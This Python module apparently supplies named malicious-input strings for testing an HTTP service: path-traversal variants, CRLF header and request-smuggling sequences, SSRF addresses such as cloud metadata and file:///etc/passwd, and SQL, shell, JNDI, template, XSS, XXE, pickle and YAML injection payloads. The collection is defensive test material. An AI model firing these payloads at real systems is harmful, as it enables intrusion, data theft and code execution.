"""Strings that break things: our own list, each named, none twice.

SEGMENTS   bytes for one place in a request target as they go over the wire, encoded or not
WORDS      text for bodies, queries (percent-encoded by whoever sends them) and headers
"""

from collections.abc import Iterator, Mapping
from urllib.parse import quote_from_bytes


def _named(pairs: Iterator[tuple[str, bytes]]) -> dict[str, bytes]:
    found: dict[str, bytes] = {}
    for name, value in pairs:
        assert name not in found, name
        assert value not in found.values(), name
        found[name] = value
    return found


_DOTS = {
    "plain": b"..",
    "encoded": b"%2e%2e",
    "encoded in capitals": b"%2E%2E",
    "half encoded": b".%2e",
    "the other half encoded": b"%2e.",
    "encoded twice": b"%252e%252e",
    "encoded thrice": b"%25252e%25252e",
    "overlong in two": b"%c0%ae%c0%ae",
    "overlong in three": b"%e0%80%ae%e0%80%ae",
    "overlong in four": b"%f0%80%80%ae%f0%80%80%ae",
    "fullwidth": b"%ef%bc%8e%ef%bc%8e",
    "one leader": b"%e2%80%a4%e2%80%a4",
    "two dot leader": b"%e2%80%a5",
    "ideographic stops": b"%e3%80%82%e3%80%82",
    "small stops": b"%ef%b9%92%ef%b9%92",
    "percent u": b"%u002e%u002e",
    "with NUL between": b".%00.",
    "with a parameter": b"..;",
    "with a parameter's value": b"..;a=b",
    "three": b"...",
    "four": b"....",
    "one": b".",
    "with a blank": b"..%20",
    "with a tab": b"..%09",
    "with a soft hyphen": b".%c2%ad.",
}
_SLASHES = {
    "a slash": b"/",
    "an encoded slash": b"%2f",
    "an encoded slash in capitals": b"%2F",
    "a slash encoded twice": b"%252f",
    "a backslash": b"\\",
    "an encoded backslash": b"%5c",
    "an overlong slash": b"%c0%af",
    "an overlong slash in three": b"%e0%80%af",
    "a division slash": b"%e2%88%95",
    "a fraction slash": b"%e2%81%84",
    "a fullwidth slash": b"%ef%bc%8f",
    "percent u slash": b"%u2215",
}
_TARGETS = {"users": b"users", "another record": b"opp_other0000001"}


def _climbs() -> Iterator[tuple[str, bytes]]:
    for dots, up in _DOTS.items():
        yield f"dots {dots}", up
        for slash, way in _SLASHES.items():
            yield f"dots {dots}, {slash}, users", up + way + b"users"
    for slash, way in _SLASHES.items():
        for name, target in _TARGETS.items():
            yield f"an id, {slash}, {name}", b"opp_abc123def456" + way + target
        yield f"{slash} alone", way
        yield f"{slash} first", way + b"users"
        yield f"{slash} last", b"opp_abc123def456" + way
        yield f"{slash} twice, then a host", way * 2 + b"evil.example"
        yield f"an id, {slash}, dots, {slash}, users", b"opp_abc123def456" + way + b".." + way + b"users"


def _controls() -> Iterator[tuple[str, bytes]]:
    for code in (*range(0x20), 0x7F):
        yield f"control {code:#04x} encoded", b"opp%%%02x1" % code
    for code in (0x00, 0x01, 0x08, 0x0B, 0x0C, 0x1B, 0x7F, 0x80, 0x85, 0xA0, 0xAD, 0xC0, 0xE9, 0xFE, 0xFF):
        yield f"byte {code:#04x} raw", b"opp" + bytes([code]) + b"1"
    yield "a line and a header, encoded", b"opp1%0d%0aX-Injected:%20yes"
    yield "a line feed and a header, encoded", b"opp1%0aX-Injected:%20yes"
    yield "a carriage return and a header, encoded", b"opp1%0dX-Injected:%20yes"
    yield "a line and a header, encoded twice", b"opp1%250d%250aX-Injected:%20yes"
    yield "a line as overlong letters", b"opp1%e5%98%8a%e5%98%8dX-Injected:%20yes"
    yield "a whole second request, encoded", b"opp1%20HTTP/1.1%0d%0aHost:%20evil%0d%0a%0d%0aGET%20/users"
    yield "a line separator", b"opp%e2%80%a81"
    yield "a paragraph separator", b"opp%e2%80%a91"
    yield "a next line", b"opp%c2%851"


def _delimiters() -> Iterator[tuple[str, bytes]]:
    for mark in b"?#;&=+$,@!*'()[]{}<>|^`\"":
        encoded = b"%%%02x" % mark
        if mark not in b"?#":  # raw, these begin a query or a fragment: tried as such below
            yield f"{chr(mark)} raw", b"opp1" + bytes([mark]) + b"admin=1"
        yield f"{chr(mark)} encoded", b"opp1" + encoded + b"admin=1"
    yield "a query", b"opp_abc123def456?admin=1"
    yield "two queries", b"opp_abc123def456?explain=true?admin=1"
    yield "a fragment", b"opp_abc123def456#/users"
    yield "a fragment alone", b"#"
    yield "a query and a fragment", b"opp_abc123def456?#"
    yield "a path parameter", b"opp_abc123def456;jsessionid=1"
    yield "a matrix parameter with dots", b"opp_abc123def456;/../users"


def _addresses() -> Iterator[tuple[str, bytes]]:
    for name, address in {
        "http": b"http://evil.example/",
        "https": b"https://evil.example/",
        "protocol relative": b"//evil.example/",
        "three slashes": b"///evil.example/",
        "backslashes": b"\\\\evil.example\\x",
        "with user": b"http://a:b@evil.example/",
        "user trick": b"@evil.example/",
        "loopback": b"http://127.0.0.1:80/",
        "loopback as a number": b"http://2130706433/",
        "loopback in octal": b"http://0177.0.0.1/",
        "loopback in IPv6": b"http://[::1]/",
        "mapped": b"http://[::ffff:127.0.0.1]/",
        "metadata": b"http://169.254.169.254/latest/meta-data/",
        "file": b"file:///etc/passwd",
        "gopher": b"gopher://evil.example/",
        "data": b"data:text/html,x",
        "javascript": b"javascript:alert(1)",
        "unix": b"unix:/var/run/docker.sock",
        "jar": b"jar:http://e!/",
    }.items():
        yield f"address {name}", address
        yield f"address {name}, encoded", quote_from_bytes(address, safe="").encode()
    yield "etc passwd", b"../../../../../../etc/passwd"
    yield "etc passwd, encoded", b"..%2f..%2f..%2f..%2fetc%2fpasswd"
    yield "win.ini", b"..%5c..%5c..%5cwindows%5cwin.ini"
    yield "dots and more dots", b"....//....//users"
    yield "dots and backslashes", b"..\\..\\users"
    yield "a drive", b"c:%5cwindows"
    yield "a share", b"%5c%5cevil%5cshare"


def _encodings() -> Iterator[tuple[str, bytes]]:
    yield "an encoded letter", b"%6fpp_abc123def456"
    yield "an encoded digit", b"opp_abc%3123def456"
    yield "an encoded underscore", b"opp%5fabc123def456"
    yield "a letter encoded twice", b"%256fpp_abc123def456"
    yield "half an escape", b"opp%2"
    yield "a bare percent", b"opp%"
    yield "no hexadecimal", b"opp%zz"
    yield "an escape of an escape", b"opp%25"
    yield "UTF-16 escapes", b"opp%u0061"
    yield "HTML escapes", b"opp&#x2f;users"
    yield "UTF-7", b"+AC8-users"
    yield "cut UTF-8", b"opp%e2%82"
    yield "a surrogate", b"opp%ed%a0%80"
    yield "beyond Unicode", b"opp%f4%90%80%80"
    yield "a byte order mark", b"%ef%bb%bfopp1"
    yield "a zero width joiner", b"opp%e2%80%8d1"
    yield "right to left", b"%e2%80%aeopp1"
    yield "accents", b"opp%c3%a9"
    yield "accents of their own", b"ope%cc%81"
    yield "an emoji", b"%f0%9f%92%a9"
    yield "a dotless i", b"opp%c4%b1"
    yield "a Kelvin sign", b"opp%e2%84%aa"
    yield "fullwidth letters", b"%ef%bd%8f%ef%bd%90"
    yield "a superscript", b"opp%c2%b2"
    yield "201 characters", b"a" * 201
    yield "a thousand characters", b"b" * 1000
    yield "ten thousand characters", b"c" * 10_000
    yield "ten thousand dots", b"." * 10_000
    yield "a thousand climbs", b"../" * 1000
    yield "a thousand encoded climbs", b"%2e%2e%2f" * 1000
    yield "twenty thousand characters", b"d" * 20_000
    yield "three colons", b"raze:a:b:c"
    yield "a colon alone", b":"
    yield "a colon first", b":opp1"
    yield "a colon last", b"raze:"
    yield "an encoded colon twice", b"raze%3a%3aopp1"
    yield "a colon encoded twice", b"raze%253Aopp1"
    yield "a blank connection", b"%20:opp1"
    yield "a connection that climbs", b"..:opp1"
    yield "a connection with a slash", b"ra%2fze:opp1"
    yield "an empty segment", b"/"
    yield "quotes", b"%22opp%22"
    yield "apostrophes", b"%27opp%27"
    yield "a blank", b"opp%201"
    yield "a plus", b"opp+1"


def _all() -> Iterator[tuple[str, bytes]]:
    seen = set[bytes]()
    for source in (_climbs, _controls, _delimiters, _addresses, _encodings):
        for name, value in source():
            if value not in seen:  # the same trick by two roads counts once
                seen.add(value)
                yield name, value


SEGMENTS: Mapping[str, bytes] = _named(_all())

WORDS: Mapping[str, str] = {
    "nothing": "",
    "a blank": " ",
    "blanks": "   ",
    "a tab": "\t",
    "NUL": "\0",
    "NUL inside": "a\0b",
    "a bell": "\a",
    "an escape": "\x1b[31mred",
    "delete": "\x7f",
    "C1 control": "\x9b31m",
    "a line feed": "a\nb",
    "a carriage return": "a\rb",
    "a line": "a\r\nb",
    "a forged header": "a\r\nX-Injected: yes",
    "a forged answer": "a\r\n\r\nHTTP/1.1 200 OK\r\n\r\nowned",
    "a forged log line": "x\n2024-01-15 10:30:00,000 ERROR gateway forged",
    "a line separator": "a\u2028b",
    "a next line": "a\x85b",
    "a paragraph separator": "a\u2029b",
    "a vertical tab": "a\vb",
    "a form feed": "a\fb",
    "right to left": "\u202egnp.exe",
    "isolates": "\u2066a\u2069",
    "a zero width space": "a\u200bb",
    "a byte order mark": "\ufeffa",
    "a soft hyphen": "a\u00adb",
    "a replacement": "\ufffd",
    "no character": "\uffff",
    "private use": "\ue000",
    "combining": "Z\u0351\u036b\u0343\u032a",
    "an emoji": "\U0001f4a9",
    "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "a flag": "\U0001f1e7\U0001f1f7",
    "the last of Unicode": "\U0010ffff",
    "Turkish": "İstanbul ı",
    "sharp s": "Straße",
    "Arabic": "السلام عليكم",
    "Hebrew": "שלום",
    "Chinese": "田中さん",
    "Thai": "กรุงเทพ",
    "Tamil": "நிர்வாக",
    "ligature": "ﷺ",
    "mathematical": "𝒳𝓎",
    "fullwidth": "ａｄｍｉｎ",
    "SQL quote": "' OR '1'='1",
    "SQL comment": "1; DROP TABLE users--",
    "SQL union": "' UNION SELECT 1--",
    "SQL block": "admin'/*",
    "SQL double": '" OR ""="',
    "NoSQL": '{"$gt": ""}',
    "NoSQL where": "'; return true; //",
    "LDAP": "*)(uid=*))(|(uid=*",
    "XPath": "' or count(/*)=1 or 'a'='b",
    "shell": "; cat /etc/passwd",
    "shell substitution": "$(id)",
    "shell backticks": "`id`",
    "shell pipe": "| id",
    "shell and": "&& id",
    "environment": "${HOME}",
    "JNDI": "${jndi:ldap://e/a}",
    "JNDI hidden": "${${lower:j}ndi:ldap://e/a}",
    "template": "{{7*7}}",
    "template dollar": "${7*7}",
    "template hash": "#{7*7}",
    "template percent": "<%= 7*7 %>",
    "Jinja": "{{config.items()}}",
    "format": "%s%s%s%n",
    "format named": "%(name)s",
    "braces": "{0.__class__}",
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "end of title": "</title><b>",
    "comment": "<!-- x -->",
    "CDATA": "<![CDATA[x]]>",
    "entity": "&lt;b&gt;",
    "XXE": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "javascript": "javascript:alert(1)",
    "attribute": '" onmouseover="alert(1)',
    "CSV formula": '=HYPERLINK("http://e")',
    "CSV plus": "+1+1",
    "CSV at": "@SUM(1)",
    "CSV minus": "-1+1|cmd",
    "prototype": "__proto__",
    "constructor": "constructor",
    "has own": "hasOwnProperty",
    "dunder": "__class__",
    "init": "__init__.__globals__",
    "pickle": "cos\nsystem\n(S'id'\ntR.",
    "YAML": "!!python/object/apply:os.system [id]",
    "null word": "null",
    "None": "None",
    "undefined": "undefined",
    "true": "true",
    "NaN": "NaN",
    "infinity": "Infinity",
    "minus zero": "-0",
    "exponent": "1e400",
    "hexadecimal": "0x10",
    "octal": "0o17",
    "a long number": "9" * 400,
    "a tiny number": "1e-400",
    "grouped": "1,000.00",
    "Arabic digits": "١٢٣",
    "a fraction": "½",
    "a date of nowhere": "0000-00-00",
    "the year 10000": "10000-01-01T00:00:00Z",
    "February 30": "2024-02-30",
    "a leap second": "2016-12-31T23:59:60Z",
    "an endless word": "a" * 5000,
    "endless brackets": "[" * 5000,
    "endless accents": "e" + "\u0301" * 2000,
    "a path": "../../etc/passwd",
    "a path of Windows": "..\\..\\win.ini",
    "a UNC path": "\\\\evil\\share",
    "a device": "CON",
    "file address": "file:///etc/passwd",
    "an address": "http://169.254.169.254/",
    "a relative address": "//evil.example",
    "user in address": "http://a@b@c/",
    "quotes": "\"'`",
    "a backslash": "\\",
    "an escape of JSON": "\\u0000",
    "end of JSON": '"}],"x":1',
    "a comma": ",",
    "commas": ",,,,",
    "an ampersand": "a&admin=1",
    "a semicolon": "a;admin=1",
    "a percent": "%",
    "a percent escape": "%00",
    "percent twice": "%252e",
    "a plus": "a+b",
    "a hash": "a#b",
    "a question": "a?b",
    "a tilde": "~root",
    "a pointer": "/a/~0~1",
    "a glob": "*",
    "a regular expression": "(a+)+$",
    "a bomb of one": "(x+x+)+y" + "x" * 50,
    "a cookie": "a=b; Path=/; HttpOnly",
    "a bearer": "Bearer x",
    "a basic": "Basic eDp5",
    "a JWT of none": "eyJhbGciOiJub25lIn0.e30.",
    "a merge": "<<<<<<< HEAD",
    "a mail header": "a@b.c\nBcc: x@y.z",
}
